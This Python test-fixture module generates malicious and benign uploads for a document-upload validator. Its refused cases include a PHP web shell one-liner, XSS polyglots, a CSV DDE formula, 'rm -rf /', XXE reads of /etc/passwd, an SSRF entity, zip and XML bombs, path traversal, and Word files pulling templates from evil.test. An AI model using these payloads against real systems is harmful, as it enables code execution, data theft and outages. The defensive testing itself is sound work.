"""Uploads that have to be refused, and uploads that must not be: made from nothing, each named for what it is."""

import gzip
import struct
import tarfile
from collections.abc import Callable, Iterator
from functools import partial
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from PIL import Image

from apps.onboarding.rules.attachments import MOST_BYTES
from apps.onboarding.tests import samples

HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PHP = b"<?php system($_GET['c']); ?>"
GIF_JS = b"GIF89a/*\x01\x00\x01\x00*/=1;alert(1)//"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE d [%s]><w:document xmlns:w="w"><w:body><w:p>&x;</w:p></w:body></w:document>'
LAUGHS = b'<!ENTITY x0 "ha">' + b"".join(b'<!ENTITY x%d "%s">' % (n, b"&x%d;" % (n - 1) * 10) for n in range(1, 10))

File = tuple[str, Callable[[], bytes]]


def bad_files() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """Yield what each file is, its name, and how its content is made."""
    for ending in ("pdf", "docx", "txt", "png", "jpg", "webp"):
        yield f"empty {ending}", f"a.{ending}", bytes
    for name, content in OF_OTHER_KINDS.items():
        yield f"other kind {name}", name, partial(bytes, content)
    for what, (name, content) in LIES.items():
        yield f"lie {what}", name, partial(bytes, content)
    yield "one byte too many", "a.txt", lambda: b"a" * (MOST_BYTES + 1)
    for what, (name, make) in DAMAGED.items():
        yield f"damaged {what}", name, make
    for what, make in BAD_WORD_FILES.items():
        yield f"word file with {what}", "a.docx", make


def good_files() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """Yield what each file is, its name, and how its content is made."""
    for what, (name, make) in GOOD.items():
        yield what, name, make
    for number, name in enumerate(ODD_NAMES):
        yield f"odd name {number}", name, partial(bytes, b"words")


OF_OTHER_KINDS = {
    "shell.php": PHP,
    "photo.jpg.php": PHP,
    "page.html": HTML,
    "page.xhtml": HTML,
    "logo.svg": SVG,
    "data.xml": b"<?xml version='1.0'?><a/>",
    "a.js": b"alert(1)",
    "a.json": b"{}",
    "a.csv": b"=cmd|' /C calc'!A0",
    "run.exe": b"MZ" + bytes(64),
    "run.bat": b"@echo off",
    "link.lnk": b"L\0\0\0" + bytes(64),
    "clip.gif": GIF_JS,
    "clip.mp4": b"\0\0\0\x18ftypmp42" + bytes(64),
    "old.doc": OLE,
    "table.xlsx": b"PK\x03\x04" + bytes(64),
    "deck.pptx": b"PK\x03\x04" + bytes(64),
    "macro.docm": b"PK\x03\x04" + bytes(64),
    "all.zip": b"PK\x03\x04" + bytes(64),
    "all.rar": b"Rar!\x1a\x07\x01\x00" + bytes(64),
    "all.7z": b"7z\xbc\xaf\x27\x1c" + bytes(64),
    "picture.tiff": b"II*\0" + bytes(64),
    "picture.bmp": b"BM" + bytes(64),
    "picture.heic": b"\0\0\0\x18ftypheic" + bytes(64),
    "font.ttf": b"\0\1\0\0" + bytes(64),
}
LIES = {
    "php in a picture's name": ("photo.php.jpg", PHP),
    "php behind a NUL in the name": ("photo.php%00.png", PHP),
    "html as text": ("a.txt", HTML),
    "html behind spaces as text": ("a.txt", b" \n\t" + HTML),
    "html behind a mark as text": ("a.txt", b"\xef\xbb\xbf" + HTML),
    "svg as text": ("a.txt", SVG),
    "svg as a picture": ("a.png", SVG),
    "html as a picture": ("a.png", HTML),
    "html as a pdf": ("a.pdf", HTML),
    "text as a pdf": ("a.pdf", b"just words"),
    "zip as a pdf": ("a.pdf", b"PK\x03\x04" + bytes(64)),
    "gif as a png": ("a.png", GIF_JS),
    "gif and script as text": ("a.txt", GIF_JS),
    "shell script as text": ("a.txt", b"#!/bin/sh\nrm -rf /"),
    "elf as text": ("a.txt", b"\x7fELF\x02\x01\x01" + bytes(64)),
    "windows program as text": ("a.txt", b"MZ\x90\0\x03" + bytes(64)),
    "mail as text": ("a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML),
    "rtf as text": ("a.txt", b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK}}}"),
    "postscript as text": ("a.txt", b"%!PS-Adobe-3.0\n(%stdin) run"),
    "php as text": ("a.md", PHP),
    "pdf as text": ("a.txt", samples.pdf()),
    "ole as a word file": ("a.docx", OLE),
    "text as a word file": ("a.docx", b"just words"),
    "nothing said, nothing known": ("file", bytes(range(256))),
    "gzip without an ending": ("file", gzip.compress(b"a")),
    "wide text without a mark": ("a.txt", "words".encode("utf-16-le")),
    "a sound as webp": ("a.webp", b"RIFF\x24\0\0\0WAVEfmt " + bytes(64)),
}


def cut(content: bytes) -> bytes:
    """Cut a file off in the middle."""
    return content[: len(content) // 2]


def _noise(kind: str) -> bytes:
    """A picture that does not compress, so that its middle is its middle."""
    drawn, written = Image.effect_noise((200, 200), 80), BytesIO()
    drawn.save(written, kind)
    return written.getvalue()


def _flooding_jpeg() -> bytes:
    """A JPEG whose header promises 60,000 × 60,000 pixels."""
    sent = bytearray(samples.picture("JPEG"))
    start = sent.index(b"\xff\xc0") + 5
    sent[start : start + 4] = struct.pack(">HH", 60_000, 60_000)
    return bytes(sent)


def _wrong_checksum() -> bytes:
    sent = bytearray(samples.picture())
    sent[29] ^= 0xFF
    return bytes(sent)


def _tar() -> bytes:
    written = BytesIO()
    with tarfile.open(fileobj=written, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/passwd"))
    return written.getvalue()


DAMAGED: dict[str, File] = {
    "png, cut off": ("a.png", lambda: cut(_noise("PNG"))),
    "jpeg, cut off": ("a.jpg", lambda: _noise("JPEG")[:300]),
    "webp, cut off": ("a.webp", lambda: cut(_noise("WEBP"))),
    "pdf, cut off": ("a.pdf", lambda: cut(samples.pdf(pages=20))),
    "pdf without its end": ("a.pdf", lambda: samples.pdf().replace(b"%%EOF", b"")),
    "pdf with an archive behind": ("a.pdf", lambda: samples.pdf() + b"PK\x03\x04" + bytes(4000)),
    "pdf with a page in front": ("a.pdf", lambda: HTML + samples.pdf()),
    "pdf with a page behind its mark": ("a.pdf", lambda: samples.pdf().replace(b"\n", b"\n" + HTML, 1)),
    "png of a header alone": ("a.png", lambda: b"\x89PNG\r\n\x1a\n"),
    "png with a wrong checksum": ("a.png", _wrong_checksum),
    "png and script": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML),
    "jpeg and script": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML),
    "png of 900 million pixels": ("a.png", lambda: samples.flooding_png(30_000)),
    "png of 64 million pixels": ("a.png", lambda: samples.flooding_png(8_000)),
    "png of one row too many": ("a.png", lambda: samples.flooding_png(5_001)),
    "jpeg of 3,600 million pixels": ("a.jpg", _flooding_jpeg),
    "tar as a word file": ("a.docx", _tar),
}


def _with_entry(info: ZipInfo | str, content: bytes = b"x", *, pack: int = ZIP_DEFLATED) -> bytes:
    """A Word file with one more entry, whatever it is called."""
    written = BytesIO(samples.docx())
    with ZipFile(written, "a", pack) as archive:
        archive.writestr(info, content)
    return written.getvalue()


def _link() -> bytes:
    info = ZipInfo("word/link")
    info.external_attr = 0o120777 << 16
    return _with_entry(info, b"/etc/passwd")


def _plain_zip() -> bytes:
    written = BytesIO()
    with ZipFile(written, "w") as archive:
        archive.writestr("notes.txt", "words")
    return written.getvalue()


def _locked() -> bytes:
    sent = bytearray(samples.docx())
    place = sent.index(b"PK\x01\x02")
    sent[place + 8] |= 1
    return bytes(sent)


def _related(kind: bytes, target: bytes) -> bytes:
    return samples.docx_with({"word/_rels/document.xml.rels": RELATIONS % (kind, target)})


def _many_entries() -> bytes:
    written = BytesIO(samples.docx())
    with ZipFile(written, "a", ZIP_STORED) as archive:
        for number in range(20_000):
            archive.writestr(str(number), b"")
    return written.getvalue()


def _bomb() -> bytes:
    return _with_entry("word/media/a.bin", bytes(200_000_000))


def _lying_bomb() -> bytes:
    """A part that says it is small, and is not."""
    sent = bytearray(samples.docx_with({"word/document.xml": b"<a>" + b"a" * 5_000_000 + b"</a>"}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := sent.find(mark, start)) >= 0:
            struct.pack_into("<L", sent, start + place, 10)
            start += 4
    return bytes(sent)


MACROS = (
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
BAD_WORD_FILES: dict[str, Callable[[], bytes]] = {
    "nothing of Word in it": _plain_zip,
    "its end cut off": lambda: cut(samples.docx()),
    "bytes behind its end": lambda: samples.docx() + b"<html>",
    "a macro project": lambda: _with_entry("word/vbaProject.bin"),
    "macros by type": lambda: samples.docx_with({"[Content_Types].xml": samples.content_types(MACROS)}),
    "a control": lambda: _with_entry("word/activeX/activeX1.xml"),
    "a part outside": lambda: _with_entry("../../../etc/cron.d/x"),
    "a part at the root": lambda: _with_entry("/etc/passwd"),
    "a part on a drive": lambda: _with_entry("C:/Windows/x"),
    "a link": _link,
    "a password": _locked,
    "a part packed strangely": lambda: _with_entry("word/x", pack=14),
    "a template from the network": lambda: _related(b"attachedTemplate", b"http://evil.test/a.dotm"),
    "an object from a share": lambda: _related(b"oleObject", b"file://evil/a"),
    "an object by UNC path": lambda: _related(b"oleObject", b"\\\\evil\\a"),
    "a frame from the network": lambda: _related(b"frame", b"https://evil.test/"),
    "200 MB in 200 kB": _bomb,
    "a part that lies about its size": _lying_bomb,
    "20,000 parts": _many_entries,
    "a file named in an entity": lambda: samples.docx_with(
        {"word/document.xml": DOCTYPE % b'<!ENTITY x SYSTEM "file:///etc/passwd">'}
    ),
    "an address named in an entity": lambda: samples.docx_with(
        {"word/document.xml": DOCTYPE % b'<!ENTITY x SYSTEM "http://127.0.0.1:6379/">'}
    ),
    "a billion laughs": lambda: samples.docx_with({"word/document.xml": DOCTYPE % LAUGHS}),
    "an entity in its styles": lambda: samples.docx_with(
        {"word/styles.xml": DOCTYPE % b'<!ENTITY x SYSTEM "file:///etc/passwd">'}
    ),
    "an entity in wide letters": lambda: samples.docx_with(
        {"word/document.xml": (DOCTYPE % b'<!ENTITY x SYSTEM "file:///etc/passwd">').decode().encode("utf-16")}
    ),
}


def _with_place() -> bytes:
    """A photo that tells where it was taken."""
    exif = Image.Exif()
    exif.get_ifd(0x8825)[1] = "N"
    exif[0x0110] = "SecretPhone 12"
    return samples.picture("JPEG", exif=exif)


def _written(mode: str, kind: str, **saving: object) -> bytes:
    drawn, written = Image.new(mode, (30, 20)), BytesIO()
    drawn.save(written, kind, **saving)
    return written.getvalue()


GOOD: dict[str, File] = {
    "pdf": ("offer.pdf", samples.pdf),
    "pdf in capitals": ("OFFER.PDF", samples.pdf),
    "pdf without an ending": ("offer", samples.pdf),
    "pdf of many pages": ("book.pdf", lambda: samples.pdf(pages=30)),
    "pdf with a password": ("secret.pdf", lambda: samples.encrypted_pdf("secret")),
    "word file": ("brief.docx", samples.docx),
    "word file without an ending": ("brief", samples.docx),
    "word file with a web link": ("brief.docx", lambda: _related(b"hyperlink", b"https://acme.test/")),
    "text": ("notes.txt", lambda: samples.TEXT.encode()),
    "text with a mark": ("notes.txt", lambda: samples.TEXT.encode("utf-8-sig")),
    "wide text": ("notes.txt", lambda: samples.TEXT.encode("utf-16")),
    "text as Windows writes it": ("notes.txt", lambda: samples.TEXT.encode("cp1252")),
    "markdown": ("notes.md", lambda: b"# Brief\n\n- a\n- b <b>bold</b>"),
    "text of one letter": ("a.txt", lambda: b"a"),
    "text of 10 MB": ("long.txt", lambda: b"a " * (MOST_BYTES // 2)),
    "png": ("logo.png", samples.picture),
    "png with transparency": ("logo.png", lambda: _written("RGBA", "PNG")),
    "png with a palette": ("logo.png", lambda: _written("P", "PNG")),
    "png in black and white": ("logo.png", lambda: _written("1", "PNG")),
    "png in grey": ("logo.png", lambda: _written("L", "PNG")),
    "png with an archive behind": ("logo.png", lambda: samples.picture() + _plain_zip()),
    "png with text in it": ("logo.png", lambda: samples.picture() + b"<script>alert(1)</script>"),
    "png of 25 million pixels": ("plan.png", lambda: samples.flooding_png(5_000)),
    "jpeg": ("photo.jpg", lambda: samples.picture("JPEG")),
    "jpeg, progressive": ("photo.jpeg", lambda: samples.picture("JPEG", progressive=True)),
    "jpeg for print": ("photo.jpg", lambda: _written("CMYK", "JPEG")),
    "jpeg that tells the place": ("photo.jpg", _with_place),
    "jpeg called png": ("photo.png", lambda: samples.picture("JPEG")),
    "webp": ("photo.webp", lambda: samples.picture("WEBP")),
    "webp without loss": ("photo.webp", lambda: samples.picture("WEBP", lossless=True)),
}
ODD_NAMES = (
    "../../../etc/passwd.txt",
    "/etc/passwd.txt",
    "C:\\Windows\\notes.txt",
    "\\\\server\\share\\notes.txt",
    "notes.txt.",
    "notes.txt ",
    "\u202etxt.notes.txt",
    "CON.txt",
    "ä" * 300 + ".txt",
    'quotes "and" more.txt',
    "semi;colon.txt",
    "Größe und Preis 客户.txt",
    "e\u0301.txt",
    "two\u2028lines.txt",
    "emoji 🥐.txt",
    "no_ending",
    "a.desktop",
)
HIDDEN = (b"SecretPhone", b"PK\x03\x04", b"<script", b"Exif", b"GPS")
"""What no picture that was written anew has in it."""
